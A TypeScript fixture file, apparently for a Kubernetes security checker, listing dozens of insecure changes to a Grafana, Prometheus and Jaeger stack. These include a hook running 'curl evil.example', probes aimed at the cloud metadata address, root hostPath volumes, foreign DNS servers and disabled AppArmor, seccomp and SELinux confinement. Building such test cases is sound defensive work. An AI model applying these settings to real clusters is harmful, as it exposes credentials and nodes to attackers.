/** Pods that may do more than they need. */
import { AGENT, all, CONTAINER, GATEWAY, GRAFANA, JAEGER, object, POD, PROMETHEUS, SAMPLER, set } from "../draft";
import type { Weakenings } from "../draft";

const stranger = { name: "x", image: "docker.io/library/busybox:1.37.0-musl", securityContext: { runAsNonRoot: true } };
const pod = { spec: { serviceAccountName: "default", containers: [stranger] } };
const token = { serviceAccountToken: { path: "token", expirationSeconds: 3600 } };

export const PODS: Weakenings = {
  "apparmor-unconfined": [
    "AppArmor no longer confines the container",
    set(GRAFANA, `${CONTAINER}/securityContext/appArmorProfile`, { type: "Unconfined" }),
  ],
  "apparmor-unconfined-pod": [
    "AppArmor no longer confines the pod",
    set(PROMETHEUS, `${POD}/securityContext/appArmorProfile`, { type: "Unconfined" }),
  ],
  "apparmor-annotation": [
    "the older spelling of the same",
    set(
      GRAFANA,
      "spec/template/metadata/annotations/container.apparmor.security.beta.kubernetes.io~1grafana",
      "unconfined",
    ),
  ],
  "seccomp-annotation": [
    "an annotation that turns seccomp off on older nodes",
    set(JAEGER, "spec/template/metadata/annotations/seccomp.security.alpha.kubernetes.io~1pod", "unconfined"),
  ],
  "selinux-spc": [
    "spc_t is SELinux' type for containers that may do everything",
    set(GRAFANA, `${CONTAINER}/securityContext/seLinuxOptions`, { type: "spc_t" }),
  ],
  "selinux-pod": [
    "the same for the whole pod",
    set(JAEGER, `${POD}/securityContext/seLinuxOptions`, { type: "spc_t" }),
  ],
  "windows-host-process": [
    "a host process has all rights on a Windows node",
    set(GRAFANA, `${CONTAINER}/securityContext/windowsOptions`, {
      hostProcess: true,
      runAsUserName: "NT AUTHORITY\\SYSTEM",
    }),
  ],
  "root-group": [
    "group 0 owns files of the image and of the node",
    set(PROMETHEUS, `${POD}/securityContext/runAsGroup`, 0),
  ],
  "supplemental-root": ["the same as a further group", set(JAEGER, `${POD}/securityContext/supplementalGroups`, [0])],
  "host-probe": [
    "the kubelet sends the probe to another host, from the node's network",
    set(GRAFANA, `${CONTAINER}/livenessProbe/httpGet/host`, "169.254.169.254"),
  ],
  "probe-headers": [
    "the kubelet sends a header that a metadata server asks for",
    set(GRAFANA, `${CONTAINER}/readinessProbe/httpGet/httpHeaders`, [{ name: "Metadata-Flavor", value: "Google" }]),
  ],
  "lifecycle-exec": [
    "a hook runs any program in the container",
    set(GRAFANA, `${CONTAINER}/lifecycle`, { postStart: { exec: { command: ["sh", "-c", "curl evil.example"] } } }),
  ],
  "lifecycle-http": [
    "the kubelet requests any address",
    set(JAEGER, `${CONTAINER}/lifecycle`, { preStop: { httpGet: { host: "10.0.0.1", port: 10250, path: "/" } } }),
  ],
  "share-process-namespace": ["containers see each other's memory", set(GRAFANA, `${POD}/shareProcessNamespace`, true)],
  "share-process-namespace-prometheus": ["the same", set(PROMETHEUS, `${POD}/shareProcessNamespace`, true)],
  "other-secret-mounted": [
    "Jaeger can read Prometheus' key",
    set(GRAFANA, `${POD}/volumes/+`, { name: "web", secret: { secretName: "prometheus-web" } }),
  ],
  "other-secret-instead": [
    "Prometheus' volume shows Grafana's password instead",
    set(PROMETHEUS, `${POD}/volumes/2/secret/secretName`, "grafana-admin"),
  ],
  "other-secret-projected": [
    "the same through a projected volume",
    set(GRAFANA, `${POD}/volumes/2/projected/sources/+`, { secret: { name: "remote-write-credentials" } }),
  ],
  "token-projected": [
    "a service account token in a pod that needs none",
    set(GRAFANA, `${POD}/volumes/+`, { name: "token", projected: { sources: [token] } }),
  ],
  "token-projected-beside": ["the same beside dashboards", set(GRAFANA, `${POD}/volumes/2/projected/sources/+`, token)],
  "token-audience": [
    "a token for another audience, which can log in elsewhere",
    set(JAEGER, `${POD}/volumes/+`, {
      name: "t",
      projected: { sources: [{ serviceAccountToken: { path: "t", audience: "sts.googleapis.com" } }] },
    }),
  ],
  "token-name-collision": [
    "the agent's account has permissions, one of the same name elsewhere need not be its own",
    all(set(GRAFANA, `${POD}/serviceAccountName`, "otel"), set(GRAFANA, `${POD}/automountServiceAccountToken`, true)),
  ],
  "automount-account": [
    "pods of the account get its token by default",
    set("ServiceAccount/grafana", "automountServiceAccountToken", true),
  ],
  "cloud-token": [
    "the pod gets a token of a cloud account",
    set(JAEGER, `${POD}/volumes/+`, {
      name: "gcp",
      projected: { sources: [{ clusterTrustBundle: { name: "x", path: "y" } }] },
    }),
  ],
  "replication-controller": [
    "an older kind of workload, with a pod that nobody looked at",
    object("v1", "ReplicationController", "x", "monitoring", { spec: { template: pod } }),
  ],
  "replica-set": ["the same", object("apps/v1", "ReplicaSet", "x", "monitoring", { spec: { template: pod } })],
  "bare-pod": ["the same", object("v1", "Pod", "x", "monitoring", pod)],
  "cron-job": [
    "the same at times",
    object("batch/v1", "CronJob", "x", "monitoring", { spec: { jobTemplate: { spec: { template: pod } } } }),
  ],
  "pod-template": [
    "a template for pods that others make",
    object("v1", "PodTemplate", "x", "monitoring", { template: pod }),
  ],
  "deployment-beside": [
    "a workload that is no part of the stack",
    object("apps/v1", "Deployment", "x", "monitoring", { spec: { template: pod } }),
  ],
  "pod-spec-unknown": ["a pod that nobody can read before the rollout", set(GRAFANA, POD, "[known after up]")],
  "containers-unknown": ["the same of its containers", set(GRAFANA, `${POD}/containers`, "[known after up]")],
  "containers-unknown-jaeger": ["the same", set(JAEGER, `${POD}/containers`, "[known after up]")],
  "template-unknown": ["the same of the template", set(PROMETHEUS, "spec/template", "[known after up]")],
  "values-unknown": ["the same of the chart", set(AGENT, "values", "[known after up]")],
  "sampler-values-unknown": ["the same", set(SAMPLER, "values", "[known after up]")],
  "sampler-values-unknown-component": [
    "the same where the engine shows the component alone",
    set("TraceGateway/trace-gateway", "samplerValues", "[known after up]"),
  ],
  "unlabelled-namespace-move": [
    "no Pod Security level is enforced in that namespace, and no network policy holds there",
    set(GRAFANA, "metadata/namespace", "default"),
  ],
  "unlabelled-namespace-move-chart": ["the same of a chart", set(GATEWAY, "namespace", "default")],
  "system-namespace-move": ["pods beside the cluster's own", set(JAEGER, "metadata/namespace", "kube-system")],
  "persistent-volume-hostpath": [
    "a volume that is a folder of the node",
    object("v1", "PersistentVolume", "x", "", { spec: { hostPath: { path: "/" }, capacity: { storage: "1Gi" } } }),
  ],
  "persistent-volume-nfs": [
    "a volume of another host",
    object("v1", "PersistentVolume", "y", "", { spec: { nfs: { server: "10.0.0.1", path: "/" } } }),
  ],
  "volume-nfs": ["the same in a pod", set(GRAFANA, `${POD}/volumes/+`, { name: "n", nfs: { server: "x", path: "/" } })],
  "volume-csi": [
    "an inline CSI volume may be anything of the node",
    set(GRAFANA, `${POD}/volumes/+`, { name: "n", csi: { driver: "secrets-store.csi.k8s.io" } }),
  ],
  "volume-image": [
    "files of an image that nobody checked",
    set(GRAFANA, `${POD}/volumes/+`, { name: "n", image: { reference: "docker.io/evil/x:1" } }),
  ],
  "data-in-memory": [
    "samples are gone with the pod",
    set(PROMETHEUS, `${POD}/volumes/3`, { name: "data", emptyDir: {} }),
  ],
  "shared-host-users": ["root in the pod is root on the node", set(GRAFANA, `${POD}/hostUsers`, true)],
  "host-aliases": [
    "a name of the store resolves to another address",
    set(GRAFANA, `${POD}/hostAliases`, [{ ip: "203.0.113.9", hostnames: ["prometheus.monitoring.svc.cluster.local"] }]),
  ],
  "dns-server": [
    "names are resolved by a foreign server",
    all(set(GRAFANA, `${POD}/dnsPolicy`, "None"), set(GRAFANA, `${POD}/dnsConfig`, { nameservers: ["203.0.113.9"] })),
  ],
  "second-container": ["a program beside Grafana sees what it sees", set(GRAFANA, `${POD}/containers/+`, stranger)],
  "init-container": ["a program before Prometheus", set(PROMETHEUS, `${POD}/initContainers`, [stranger])],
  "ephemeral-container": ["a program beside Jaeger", set(JAEGER, `${POD}/ephemeralContainers`, [stranger])],
  "runtime-class": ["another runtime than the checked one", set(JAEGER, `${POD}/runtimeClassName`, "unconfined")],
  "system-priority": [
    "Grafana evicts the cluster's own pods",
    set(GRAFANA, `${POD}/priorityClassName`, "system-node-critical"),
  ],
  "set-host-name": ["the pod passes for another", set(GRAFANA, `${POD}/hostname`, "prometheus")],
  "node-name": ["the pod goes past the scheduler", set(GRAFANA, `${POD}/nodeName`, "node-1")],
  "command-grafana": [
    "a shell instead of the program",
    set(GRAFANA, `${CONTAINER}/command`, ["/bin/sh", "-c", "sleep 1d"]),
  ],
  "termination-message": [
    "a file of a volume is shown to whoever reads the pod",
    set(GRAFANA, `${CONTAINER}/terminationMessagePath`, "/etc/grafana/provisioning/datasources/data-sources.yaml"),
  ],
  "mount-writable": [
    "the program may change its own configuration",
    set(PROMETHEUS, `${CONTAINER}/volumeMounts/2/readOnly`, undefined),
  ],
  "mount-propagation": [
    "mounts in the container appear on the node",
    set(GRAFANA, `${CONTAINER}/volumeMounts/3/mountPropagation`, "Bidirectional"),
  ],
  stdin: ["whoever attaches can type", set(GRAFANA, `${CONTAINER}/stdin`, true)],
};
